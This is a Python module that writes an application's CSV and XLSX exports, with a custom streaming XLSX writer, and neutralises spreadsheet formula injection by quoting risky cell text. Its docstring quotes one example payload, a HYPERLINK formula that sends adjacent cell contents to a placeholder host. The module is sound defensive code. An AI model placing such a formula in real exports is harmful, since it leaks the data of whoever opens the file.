"""Every CSV and XLSX file the product writes is written through here, so that no cell of user text can
become a formula.

Excel, WPS and LibreOffice run a cell that begins with `=`, `+`, `-` or `@` as a formula (and some strip a
leading tab or carriage return first): a hazard titled `=HYPERLINK("http://x/?"&A1,"详情")` would otherwise
become a link that sends the neighbouring cells away when an official opens the ledger export ("CSV
injection", OWASP). Such text is written with a leading single quote, OWASP's recommendation, and is then
shown as the text it is. Real numbers, dates and times are written as what they are, never as text, so they
still sort and add up; a "-5" typed into a text field is text, and is quoted like any other.

Imports of our own sheets take the quote off again (`restored`), so an exported table of tasks re-imports
with its titles unchanged.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import tempfile
import zipfile
from collections.abc import Callable, Iterable, Iterator
from decimal import Decimal
from functools import cache
from typing import IO, Any
from xml.sax.saxutils import quoteattr

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
NUMBERS = (int, float, Decimal)  # bool is an int: written as TRUE/FALSE in XLSX, True/False in CSV
CSV_DATETIME = "%Y-%m-%d %H:%M"  # local time to the minute, as the pages show it
SHEET_TITLE_MAX = 31  # Excel's limit
BOM = "\ufeff"  # Excel reads a CSV as UTF-8 (and shows Chinese) only with it


def neutralised(text: str) -> str:
    """The text, quoted when a spreadsheet program would run it as a formula."""
    return QUOTE + text if text.startswith(FORMULA_TRIGGERS) else text


def restored(text: str) -> str:
    """Text read back from a sheet we wrote: the quote `neutralised` added is taken off again."""
    return text[1:] if text.startswith(QUOTE) and text[1:].startswith(FORMULA_TRIGGERS) else text


def _local(value: dt.datetime) -> dt.datetime:
    return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value


def csv_cell(value: Any) -> str:
    """One CSV field: numbers and dates as such, text (anything else, lazy translations too) neutralised."""
    if isinstance(value, str):
        return neutralised(value)
    if value is None:
        return ""
    if isinstance(value, NUMBERS):
        return str(value)
    if isinstance(value, dt.datetime):
        return _local(value).strftime(CSV_DATETIME)
    if isinstance(value, dt.date):
        return value.isoformat()
    return neutralised(str(value))


def xlsx_cell(value: Any) -> Any:
    """One XLSX cell value: numbers, dates and times stay typed (datetimes in local time: Excel has no time
    zones); text is neutralised and loses the control characters XLSX cannot hold (openpyxl would refuse
    the whole file)."""
    if value is None or isinstance(value, NUMBERS):
        return value
    if isinstance(value, dt.datetime):
        return _local(value)
    if isinstance(value, dt.date | dt.time):
        return value
    return neutralised(ILLEGAL_CHARACTERS_RE.sub("", str(value)))


class _Echo:
    """A file whose write returns the text: csv.writer's writerow then returns the line it wrote."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The CSV file as lines, BOM first: streamable, and each field made safe by `csv_cell`."""
    writer = csv.writer(_Echo())
    yield BOM
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    return "".join(csv_lines(rows))


class SheetWriter:
    """One sheet of a `WorkbookWriter`; rows go in only through `append`, cell by cell made safe."""

    def __init__(self, sheet: Any) -> None:  # an openpyxl Worksheet
        self._sheet = sheet

    def append(self, row: Iterable[Any]) -> None:
        self._sheet.append([xlsx_cell(value) for value in row])


class WorkbookWriter:
    """An XLSX workbook to write. `write_only` streams rows to disk in constant memory (large exports),
    through our own `StreamingWorkbook`; otherwise openpyxl holds the (small) workbook in memory."""

    def __init__(self, *, write_only: bool = False) -> None:
        self._book: StreamingWorkbook | Workbook = StreamingWorkbook() if write_only else Workbook()
        if isinstance(self._book, Workbook):
            for first in list(self._book.worksheets):  # a normal workbook starts with an empty sheet
                self._book.remove(first)

    def sheet(self, title: str) -> SheetWriter | StreamingSheet:
        if isinstance(self._book, StreamingWorkbook):
            return self._book.sheet(title)
        return SheetWriter(self._book.create_sheet(title[:SHEET_TITLE_MAX]))

    def save(self, target: IO[bytes]) -> None:
        self._book.save(target)

    def to_bytes(self) -> bytes:
        buffer = io.BytesIO()
        self.save(buffer)
        return buffer.getvalue()


# ------------------------------------------------------------------ the streaming XLSX writer
#
# openpyxl's write-only mode builds a cell object per value and wrote a province's million-row ledger at
# about 3,000 rows a second; a whole-ledger export is a job with a 90-second budget. An XLSX file is a zip
# of a few fixed XML parts and one XML document per sheet, so the sheet is written here directly, a row
# at a time, as text: strings inline (no shared-strings table to hold in memory), numbers as numbers,
# dates and times as Excel serial numbers with a date format. Each sheet is spooled to a temporary file
# and then deflated into the archive, so that zipfile knows its size and uses Zip64 only when a sheet
# passes 2 GiB.

SHEET_MAX_ROWS = 1_048_576  # Excel's limit; a longer table continues on a sheet of its own
EXCEL_MAX_COLUMNS = 16_384  # XFD; more values in a row are not written
CELL_MAX_CHARS = 32_767  # Excel's limit for the text of one cell
ZIP_LEVEL = 1  # deflate's fastest level: XML this repetitive still shrinks about tenfold
SPOOL_BUFFER = 1 << 20
EXCEL_EPOCH = dt.datetime(1899, 12, 30)  # noqa: DTZ001 - Excel has no time zones; serial 0 (past Excel's 1900 leap-year bug, as every writer does)
DATE_STYLE, DATETIME_STYLE, TIME_STYLE = 1, 2, 3  # indexes into cellXfs of STYLES

# What XML text may not hold: the markup characters escaped, and the control characters XLSX cannot hold
# (the ones openpyxl's ILLEGAL_CHARACTERS_RE refuses) dropped, in one pass.
_XML_TEXT = str.maketrans(
    # A bare CR is written as a reference: an XML reader turns a literal one into LF.
    {"&": "&amp;", "<": "&lt;", ">": "&gt;", "\r": "&#13;"}
    | {chr(c): None for c in [*range(9), 11, 12, *range(14, 32)]}
)
_NEEDS_ESCAPE = re.compile(r"[&<>\r\x00-\x08\x0b\x0c\x0e-\x1f]")

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/styles.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
    "{sheets}</Types>"
)
SHEET_CONTENT_TYPE = (
    '<Override PartName="/xl/worksheets/sheet{n}.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
)
PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    "<sheets>{sheets}</sheets></workbook>"
)
WORKBOOK_SHEET = '<sheet name={name} sheetId="{n}" r:id="rId{n}"/>'
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{sheets}'
    '<Relationship Id="rId{styles}" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
    'Target="styles.xml"/></Relationships>'
)
WORKBOOK_SHEET_REL = (
    '<Relationship Id="rId{n}" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet{n}.xml"/>'
)
# The formats openpyxl gives dates, datetimes and times, so that both writers' files look the same.
STYLES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<numFmts count="2"><numFmt numFmtId="164" formatCode="yyyy-mm-dd"/>'
    '<numFmt numFmtId="165" formatCode="yyyy-mm-dd h:mm:ss"/></numFmts>'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/><family val="2"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill>'
    '<fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="4"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    '<xf numFmtId="165" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    '<xf numFmtId="21" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
    "</styleSheet>"
)
_SHEET_TITLE_FORBIDDEN = re.compile(r"[\\/*?:\[\]]")  # what Excel refuses in a sheet's name
SHEET_START = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_END = "</sheetData></worksheet>"


@cache
def column_letters(index: int) -> str:
    """A, B, ... Z, AA, ... for the 0-based column index."""
    letters = ""
    index += 1
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def _xml_text(text: str) -> str:
    text = neutralised(text)
    if _NEEDS_ESCAPE.search(text):
        text = text.translate(_XML_TEXT)
    return text[:CELL_MAX_CHARS]


def _seconds(value: dt.time | dt.datetime) -> float:
    return value.hour * 3600 + value.minute * 60 + value.second + value.microsecond / 1_000_000


def _datetime_cell(ref: str, value: dt.datetime) -> str:
    value = _local(value)
    serial = (value - EXCEL_EPOCH).days + _seconds(value) / 86_400
    return f'<c r="{ref}" s="{DATETIME_STYLE}"><v>{serial!r}</v></c>'


def _date_cell(ref: str, value: dt.date) -> str:
    return f'<c r="{ref}" s="{DATE_STYLE}"><v>{(value - EXCEL_EPOCH.date()).days}</v></c>'


def _time_cell(ref: str, value: dt.time) -> str:
    return f'<c r="{ref}" s="{TIME_STYLE}"><v>{_seconds(value) / 86_400!r}</v></c>'


def _number_cell(ref: str, value: int | float | Decimal) -> str:
    return f'<c r="{ref}"><v>{value}</v></c>'


def _bool_cell(ref: str, value: bool) -> str:
    return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'


def _text_cell(ref: str, value: Any) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{_xml_text(str(value))}</t></is></c>'


# By exact type: a lookup per cell instead of a chain of isinstance checks. Anything else (lazy
# translations, UUIDs ...) is written as its text.
_CELL_BY_TYPE: dict[type, Callable[[str, Any], str]] = {
    str: _text_cell,
    int: _number_cell,
    float: _number_cell,
    Decimal: _number_cell,
    bool: _bool_cell,
    dt.datetime: _datetime_cell,
    dt.date: _date_cell,
    dt.time: _time_cell,
}


def _cell(ref: str, value: Any) -> str:
    write = _CELL_BY_TYPE.get(type(value))
    if write is None:
        if isinstance(value, dt.datetime):  # a subclass (e.g. a pendulum datetime)
            write = _datetime_cell
        elif isinstance(value, dt.date):
            write = _date_cell
        else:
            write = _text_cell
    return write(ref, value)


class StreamingSheet:
    """A sheet of a `StreamingWorkbook`: each row is written as XML to the sheet's spool file at once."""

    def __init__(self, book: StreamingWorkbook, title: str) -> None:
        self._book = book
        self._title = title
        self._header: list[Any] | None = None
        self._open(title)

    def _open(self, title: str) -> None:
        self._spool = self._book._new_part(title)
        self._spool.write(SHEET_START)
        self._rows = 0

    def append(self, row: Iterable[Any]) -> None:
        values = list(row)
        if self._header is None:
            self._header = values
        elif self._rows == SHEET_MAX_ROWS:  # full: go on in a sheet of its own, under the same header
            self._spool.write(SHEET_END)
            self._open(f"{self._title[: SHEET_TITLE_MAX - 6]} ({self._book._sheets_named(self._title)})")
            self.append(self._header)
        self._rows += 1
        number = str(self._rows)
        cells = []
        # Text, the common case, is written inline here: a function call per cell was most of the time.
        for letters, value in zip(self._book._columns, values, strict=False):
            if type(value) is str:
                if value.startswith(FORMULA_TRIGGERS):
                    value = QUOTE + value
                if _NEEDS_ESCAPE.search(value):
                    value = value.translate(_XML_TEXT)
                if len(value) > CELL_MAX_CHARS:
                    value = value[:CELL_MAX_CHARS]
                cells.append(
                    f'<c r="{letters}{number}" t="inlineStr"><is><t xml:space="preserve">{value}</t></is></c>'
                )
            elif value is not None:
                cells.append(_cell(letters + number, value))
        self._spool.write(f'<row r="{number}">{"".join(cells)}</row>')

    def _close(self) -> None:
        self._spool.write(SHEET_END)


class StreamingWorkbook:
    """An XLSX workbook written a row at a time in constant memory; `save` packs it into the target."""

    def __init__(self) -> None:
        self._folder = tempfile.TemporaryDirectory(prefix="xlsx-")
        self._parts: list[tuple[str, IO[str]]] = []  # (sheet title, its spool file), in order
        self._sheets: list[StreamingSheet] = []
        self._continued: dict[str, int] = {}
        self._columns = [column_letters(index) for index in range(EXCEL_MAX_COLUMNS)]

    def sheet(self, title: str) -> StreamingSheet:
        sheet = StreamingSheet(self, _SHEET_TITLE_FORBIDDEN.sub("", title)[:SHEET_TITLE_MAX] or "Sheet")
        self._sheets.append(sheet)
        return sheet

    def _new_part(self, title: str) -> IO[str]:
        path = f"{self._folder.name}/sheet{len(self._parts) + 1}.xml"
        spool = open(path, "w", encoding="utf-8", buffering=SPOOL_BUFFER)  # noqa: SIM115 - closed in save
        self._parts.append((title, spool))
        return spool

    def _sheets_named(self, title: str) -> int:
        """The number of the next continuation sheet of `title` (2, 3 ...)."""
        self._continued[title] = self._continued.get(title, 1) + 1
        return self._continued[title]

    def save(self, target: IO[bytes]) -> None:
        for sheet in self._sheets:
            sheet._close()
        numbers = range(1, len(self._parts) + 1)
        try:
            with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=ZIP_LEVEL) as archive:
                archive.writestr(
                    "[Content_Types].xml",
                    CONTENT_TYPES.format(sheets="".join(SHEET_CONTENT_TYPE.format(n=n) for n in numbers)),
                )
                archive.writestr("_rels/.rels", PACKAGE_RELS)
                names = "".join(
                    WORKBOOK_SHEET.format(name=quoteattr(title), n=n)
                    for n, (title, _spool) in zip(numbers, self._parts, strict=True)
                )
                archive.writestr("xl/workbook.xml", WORKBOOK.format(sheets=names))
                archive.writestr(
                    "xl/_rels/workbook.xml.rels",
                    WORKBOOK_RELS.format(
                        sheets="".join(WORKBOOK_SHEET_REL.format(n=n) for n in numbers),
                        styles=len(self._parts) + 1,
                    ),
                )
                archive.writestr("xl/styles.xml", STYLES)
                for n, (_title, spool) in zip(numbers, self._parts, strict=True):
                    spool.close()
                    archive.write(spool.name, f"xl/worksheets/sheet{n}.xml")
        finally:
            for _title, spool in self._parts:
                spool.close()
            self._folder.cleanup()


def xlsx_bytes(rows: Iterable[Iterable[Any]], *, title: str) -> bytes:
    """A one-sheet workbook of the rows, each cell made safe by `xlsx_cell`."""
    book = WorkbookWriter(write_only=True)
    sheet = book.sheet(title)
    for row in rows:
        sheet.append(row)
    return book.to_bytes()
